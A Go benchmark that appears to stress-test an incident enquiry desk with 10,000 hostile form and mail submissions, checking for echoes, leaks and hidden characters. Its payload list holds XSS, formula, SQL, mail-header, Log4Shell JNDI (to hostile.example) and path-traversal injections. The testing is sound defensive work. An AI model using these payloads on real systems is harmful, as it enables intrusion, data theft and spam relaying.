// Command hostile sends 10,000 submissions that mean no good to the desk, half by the form over HTTP and half as letters: with mark-up, headers,
// control and direction characters, formulas, references to facts and attachments. It holds that no page has an element that is not ours, that no mail
// repeats anything, that nothing stands in the database or a log as it was sent, and that staff reads text that is not what it seems to be of none.
package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"time"
	"unicode"

	"golang.org/x/net/html"

	"shirase/bench/figure"
	"shirase/internal/actor"
	"shirase/internal/enquiry"
	"shirase/internal/files"
	"shirase/internal/incident"
	"shirase/internal/portal"
	"shirase/internal/roster"
	"shirase/internal/store"
)

const (
	of     = "shop-2026"
	marker = "zqxhostile" // stands in everything that is sent
	host   = "hostile.example"
)

// payloads are what strangers write; MARK is the marker.
var payloads = []string{`<script>alert("MARK")</script>`, `"><img src=x onerror=alert("MARK")>`, `<svg/onload=alert('MARK')>`, `javascript:alert("MARK")`, "=cmd|' /C calc'!A0 MARK", "@SUM(1)MARK", "\u202egpj.exe MARK", "\u2066MARK\u2069",
	"MARK\r\nBcc: x@hostile.example\r\n\r\nbody", "'; DROP TABLE enquiry; -- MARK", "{{affected.count}} MARK {{contact telephone}}", "MARK %00%0a%0d", "\x00\x1b[2J\x07MARK",
	strings.Repeat("🔥", 800) + "MARK", "MARK" + strings.Repeat("a\u0301", 2000),
	"</textarea></form><form action=//hostile.example>MARK", "MARK\xff\xfe\xc0", "<!--#exec cmd=ls -->MARK", "${jndi:ldap://hostile.example/MARK}", "MARK\u2028\u2029\u0085"}

type world struct {
	ctx    context.Context
	desk   *enquiry.Desk
	server *httptest.Server
	db     string
	logged *bytes.Buffer
	mu     sync.Mutex
	clock  time.Time
	mails  []enquiry.Letter

	taken, wait, refused, foreign int
}

func main() {
	if err := run(figure.Parse()); err != nil {
		fmt.Fprintln(os.Stderr, "bench:", err)
		os.Exit(1)
	}
}

func run(o figure.Options) error {
	n := 10_000
	if o.Quick {
		n = 1_000
	}
	dir, err := os.MkdirTemp("", "hostile")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	w, end, err := open(dir)
	if err != nil {
		return err
	}
	defer end()
	began := time.Now()
	for i := range n {
		w.clock = w.clock.Add(2 * time.Second) // so that the hour's limit is met, and passes
		payload := strings.ReplaceAll(payloads[i/2%len(payloads)], "MARK", fmt.Sprint(marker, i))
		if i%2 == 0 {
			err = w.form(i, payload)
		} else {
			err = w.letter(i, payload)
		}
		if err != nil {
			return fmt.Errorf("submission %d: %w", i, err)
		}
		if i%500 == 499 {
			if _, err := w.desk.Send(w.ctx); err != nil {
				return err
			}
		}
	}
	if _, err := w.desk.Send(w.ctx); err != nil {
		return err
	}
	took := time.Since(began)
	repeats := 0
	for _, l := range w.mails {
		if said := l.Subject + l.Text + l.ReplyTo + l.Back + l.ID; strings.Contains(said, marker) || strings.ContainsAny(l.Subject+l.To+l.ReplyTo, "\r\n") || strings.Contains(l.Text, host) {
			repeats++
		}
	}
	read, odd, err := w.read()
	if err != nil {
		return err
	}
	leaks, err := w.leaks()
	if err != nil {
		return err
	}
	o.Print(figure.Figure{Name: "hostile submissions, by form and by letter", Value: float64(n), Unit: ""})
	o.Print(figure.Figure{Name: "of them taken, until their mailbox is shown to be theirs", Value: float64(w.taken), Unit: ""})
	o.Print(figure.Figure{Name: "told to wait", Value: float64(w.wait), Unit: ""})
	o.Print(figure.Figure{Name: "refused", Value: float64(w.refused), Unit: ""})
	o.Print(figure.Figure{Name: "a submission", Value: float64(took.Microseconds()) / 1000 / float64(n), Unit: "ms"})
	o.Print(figure.Figure{Name: "mails that left", Value: float64(len(w.mails)), Unit: ""})
	o.Print(figure.Figure{Name: "of them, with anything that was sent", Value: float64(repeats), Unit: "", Goal: "<= 0"})
	o.Print(figure.Figure{Name: "pages with an element or attribute that is not ours", Value: float64(w.foreign), Unit: "", Goal: "<= 0"})
	o.Print(figure.Figure{Name: "enquiries that staff then read", Value: float64(read), Unit: "", Goal: ">= 1"})
	o.Print(figure.Figure{Name: "of them, with a character that is hidden or turns text round", Value: float64(odd), Unit: "", Goal: "<= 0"})
	o.Print(figure.Figure{Name: "places of database and log with what was sent, as it was sent", Value: float64(leaks), Unit: "", Goal: "<= 0"})
	if repeats+w.foreign+odd+leaks > 0 || read == 0 || w.taken == 0 {
		return errors.New("what was sent came through")
	}
	return nil
}

// open makes a desk of one incident, on SQLite, with the pages on which people ask.
func open(dir string) (*world, func(), error) {
	ctx := context.Background()
	w := &world{ctx: ctx, db: filepath.Join(dir, "hostile.db"), logged: &bytes.Buffer{}, clock: time.Date(2026, 5, 1, 9, 0, 0, 0, time.UTC)}
	db, err := store.Open(ctx, "sqlite:"+w.db)
	if err != nil {
		return nil, nil, err
	}
	end := func() { db.Close() }
	folder, err := files.Open(filepath.Join(dir, "files"))
	if err != nil {
		return nil, end, err
	}
	keys, err := files.OpenKeys(filepath.Join(dir, "keys"))
	if err != nil {
		return nil, end, err
	}
	rosters, err := roster.New(ctx, db, folder, keys)
	if err != nil {
		return nil, end, err
	}
	incidents, err := incident.New(ctx, db, nil)
	if err != nil {
		return nil, end, err
	}
	facts, err := incident.ParseFactsFile("f.yaml", []byte("id: "+of+"\nfacts:\n  - {key: title, value: {ja: 会員情報の流出, en: Member data taken}}\n  - {key: organisation, value: {ja: 例示商店, en: Example Shop}}\n"))
	if err == nil {
		_, err = incidents.Create(ctx, actor.Operator(), facts)
	}
	if err != nil {
		return nil, end, err
	}
	log := slog.New(slog.NewTextHandler(w.logged, &slog.HandlerOptions{Level: slog.LevelDebug}))
	w.desk, err = enquiry.New(ctx, enquiry.Rooms{DB: db, Keys: keys, Seal: rosters.Sealer, Incident: incidents.Get, Own: func(context.Context, string) (bool, error) { return true, nil }, Log: log,
		URL: "https://notice.example", Address: "support@desk.example", Now: func() time.Time { return w.clock }, Deliver: func(_ context.Context, l enquiry.Letter) (enquiry.Outcome, string) {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.mails = append(w.mails, l)
			return enquiry.Taken, ""
		}})
	if err == nil {
		err = w.desk.SetOpen(ctx, actor.Operator(), of, true)
	}
	if err != nil {
		return nil, end, err
	}
	pages, err := portal.NewEnquiry(portal.EnquiryOptions{Desk: w.desk, Incident: incidents.Get, Log: log})
	if err != nil {
		return nil, end, err
	}
	w.server = httptest.NewServer(pages)
	return w, func() { w.server.Close(); end() }, nil
}

var token = regexp.MustCompile(`name="form" value="([^"]+)"`)

// form sends the form as a page of somebody's would, with what means no good in one field or all.
func (w *world) form(i int, payload string) error {
	res, err := http.Get(w.server.URL + "/enquiries/" + of)
	if err != nil {
		return err
	}
	body, err := w.look(res)
	if err != nil {
		return err
	}
	found := token.FindStringSubmatch(body)
	if found == nil {
		return errors.New("there is no form")
	}
	w.clock = w.clock.Add(4 * time.Second)
	f := url.Values{"form": {found[1]}, "topic": {"data"}, "text": {payload}, "name": {payload[:min(len(payload), 200)]}, "address": {fmt.Sprintf("a%d@%s", i%4000, host)}}
	switch i / 2 % 7 {
	case 0:
		f.Set("address", payload)
	case 1:
		f.Set("topic", payload)
	case 2:
		f.Set("form", payload)
	case 3:
		f.Set("website", payload)
	}
	if res, err = http.Post(w.server.URL+"/enquiries/"+of+"?lang="+[]string{"ja", "en", url.QueryEscape(payload)}[i%3], "application/x-www-form-urlencoded", strings.NewReader(f.Encode())); err != nil {
		return err
	}
	switch res.StatusCode {
	case http.StatusOK:
		w.taken++
	case http.StatusTooManyRequests, http.StatusServiceUnavailable:
		w.wait++
	case http.StatusUnprocessableEntity, http.StatusBadRequest:
		w.refused++
	default:
		res.Body.Close()
		return errors.New(res.Status)
	}
	_, err = w.look(res)
	return err
}

// look reads a page, and counts it where an element or an attribute of it is not ours.
func (w *world) look(res *http.Response) (string, error) {
	defer res.Body.Close()
	b, err := io.ReadAll(io.LimitReader(res.Body, 1<<20))
	if err != nil {
		return "", err
	}
	for _, values := range res.Header {
		if strings.Contains(strings.Join(values, " "), marker) {
			w.foreign++
			return string(b), nil
		}
	}
	bad := bytes.ContainsFunc(b, turns)
	for z := html.NewTokenizer(bytes.NewReader(b)); z.Next() != html.ErrorToken; {
		t := z.Token()
		if t.Type != html.StartTagToken && t.Type != html.SelfClosingTagToken {
			continue
		}
		for _, a := range t.Attr {
			key, value := strings.ToLower(a.Key), strings.ToLower(strings.TrimSpace(a.Val))
			shown := t.Data == "input" && key == "value" || key == "href" && strings.HasPrefix(value, "/") // what was entered, in its own field; the other language
			bad = bad || strings.HasPrefix(key, "on") || strings.HasPrefix(value, "javascript:") && !shown || strings.Contains(value, marker) && !shown || key == "action" && !strings.HasPrefix(value, "/")
		}
		bad = bad || t.Data == "script" || t.Data == "svg" || t.Data == "img" || t.Data == "iframe"
	}
	if bad {
		w.foreign++
		if w.foreign == 1 {
			fmt.Fprintf(os.Stderr, "hostile: not ours: %s\n", b)
		}
	}
	return string(b), nil
}

// turns says of a character that it is not seen, or turns what is seen round.
func turns(r rune) bool {
	return unicode.IsControl(r) && r != '\n' && r != '\r' && r != '\t' || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029'
}

// letter hands over a letter: with what means no good in its headers, its text and its files.
func (w *world) letter(i int, payload string) error {
	line := strings.NewReplacer("\r", " ", "\n", " ").Replace(payload)
	var b strings.Builder
	fmt.Fprintf(&b, "From: %s <b%d@%s>\r\nSubject: %s\r\nMessage-ID: <%s>\r\nX-N: %d\r\n", line, i%4000, host, line, line, i)
	switch i / 2 % 4 {
	case 0:
		b.WriteString("Content-Type: text/html; charset=utf-8\r\n\r\n" + payload)
	case 1:
		fmt.Fprintf(&b, "Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\n%s\r\n--b\r\nContent-Type: text/html\r\nContent-Disposition: attachment; filename=\"../../%s.html\"\r\n\r\n%s\r\n--b--\r\n", payload, line, payload)
	case 2:
		b.WriteString("Reply-To: x@" + host + "\r\nIn-Reply-To: <" + line + ">\r\nReferences: <" + line + ">\r\n" + payload + "\r\n\r\n" + payload)
	default:
		b.WriteString(strings.Repeat("Content-Type: multipart/mixed; boundary="+line+"\r\n", 3) + "\r\n" + strings.Repeat("--"+line+"\r\n", 200) + payload)
	}
	switch err := w.desk.TakeMail(w.ctx, []byte(b.String()), "support+"+of+"@desk.example"); {
	case err == nil:
		w.taken++
	case errors.Is(err, enquiry.ErrBusy):
		w.wait++
	default:
		w.refused++
	}
	return nil
}

var link = regexp.MustCompile(`/enquiries/confirm\?t=(\S+)`)

// read has each mailbox confirm what it can still, and gives how many enquiries staff then reads, and in how many there is what is not as it seems.
func (w *world) read() (n, odd int, err error) {
	for _, l := range w.mails {
		if m := link.FindStringSubmatch(l.Text); m != nil {
			if _, err := w.desk.Confirm(w.ctx, m[1]); err != nil && !errors.Is(err, enquiry.ErrToken) {
				return 0, 0, err
			}
		}
	}
	for from := 0; ; {
		list, all, err := w.desk.List(w.ctx, actor.Operator(), of, enquiry.Filter{From: from, Most: 1000})
		if err != nil {
			return 0, 0, err
		}
		for _, e := range list {
			is, err := w.desk.Get(w.ctx, actor.Operator(), of, e.ID)
			if err != nil {
				return 0, 0, err
			}
			n++
			said := is.Person.Name
			for _, m := range is.Messages {
				said += m.Subject + m.Text
				for _, f := range m.Files {
					said += f.Name
					if strings.ContainsAny(f.Name, `/\`) {
						odd++
					}
				}
			}
			if strings.ContainsFunc(said, turns) {
				odd++
			}
		}
		if from += len(list); len(list) == 0 || int64(from) >= all {
			break
		}
	}
	var out bytes.Buffer
	if err := w.desk.Export(w.ctx, actor.Operator(), of, &out); err != nil || bytes.Contains(out.Bytes(), []byte(marker)) {
		return n, odd + 1, err
	}
	return n, odd, nil
}

// leaks looks for what was sent in the database's files and in the log.
func (w *world) leaks() (n int, err error) {
	for _, name := range []string{w.db, w.db + "-wal"} {
		b, err := os.ReadFile(name)
		if errors.Is(err, os.ErrNotExist) {
			continue
		}
		if err != nil {
			return 0, err
		}
		n += bytes.Count(b, []byte(marker)) + bytes.Count(b, []byte(host))
	}
	return n + bytes.Count(w.logged.Bytes(), []byte(marker)) + bytes.Count(w.logged.Bytes(), []byte(host)), nil
}
